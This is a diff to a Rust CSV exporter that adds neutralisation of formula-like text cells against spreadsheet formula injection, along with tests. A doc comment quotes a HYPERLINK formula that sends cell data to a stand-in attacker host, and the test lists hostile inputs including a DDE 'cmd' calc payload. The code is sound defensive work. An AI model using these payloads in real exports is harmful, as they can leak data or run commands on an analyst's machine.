@@ -245,8 +245,8 @@ impl Filter {
 }
 
 /// The rows as CSV (RFC 4180: a header line, CRLF line ends, quotes where a cell needs them). Times are RFC 3339
-/// UTC, durations whole seconds, lists joined with `;`, absent values empty. Cells are written as they are: a
-/// spreadsheet that evaluates a cell starting with `=` should be told to import text.
+/// UTC, durations whole seconds, lists joined with `;`, absent values empty. Text that a spreadsheet would take
+/// for a formula is neutralised ([`neutralise`]); numbers are written as they are, negative ones included.
 pub fn csv(rows: &[Facts]) -> String {
     let mut out = COLUMNS.join(",");
     out.push_str("\r\n");
@@ -274,12 +274,30 @@ pub fn jsonl(rows: &[Facts]) -> String {
     out
 }
 
+/// One CSV cell. Only text goes through [`neutralise`] (each list item on its own, since importers that split on
+/// `;` make every item a cell); numbers and booleans are the serializer's, so a negative duration stays a number.
 fn cell(value: &Value) -> String {
     match value {
         Value::Null => String::new(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => neutralise(s),
         Value::Array(items) => items.iter().map(cell).collect::<Vec<_>>().join(";"),
         other => other.to_string(),
+    }
+}
+
+/// The characters that make a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a cell as a formula when
+/// they start it: OWASP's CSV injection list, with NUL from ASVS 1.2.10.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// Text that a spreadsheet shows as text: titles, names and tags are typed by people, and a cell such as
+/// `=HYPERLINK("https://evil.example/?"&A1, "details")` would run in the analyst's spreadsheet. A cell that
+/// starts with one of [`FORMULA_STARTS`], also after leading spaces (importers that trim them), gets a `'` in
+/// front, OWASP's advice: spreadsheets take it as "this is text" and do not show it. JSON Lines keeps the raw value.
+fn neutralise(text: &str) -> String {
+    if text.trim_start_matches(' ').starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
     }
 }
 
@@ -341,6 +359,38 @@ mod tests {
         let mut sorted_keys = keys.clone();
         sorted_keys.sort_unstable();
         assert_eq!(sorted_keys, sorted_columns);
+    }
+
+    #[test]
+    fn formula_looking_text_is_neutralised_and_numbers_are_not() {
+        for hostile in [
+            "=1+1",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "\0x",
+            "  =cmd|'/c calc'!A1",
+        ] {
+            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
+        }
+        for fine in [
+            "Checkout errors",
+            "a=b",
+            "",
+            "'=already",
+            "SEV1",
+            "2026-11-25T03:41:00Z",
+        ] {
+            assert_eq!(neutralise(fine), fine);
+        }
+        assert_eq!(cell(&serde_json::json!(-3600)), "-3600");
+        assert_eq!(cell(&serde_json::json!("-3600")), "'-3600");
+        assert_eq!(
+            cell(&serde_json::json!(["alice", "=bob", "@carol"])),
+            "alice;'=bob;'@carol"
+        );
     }
 
     #[test]
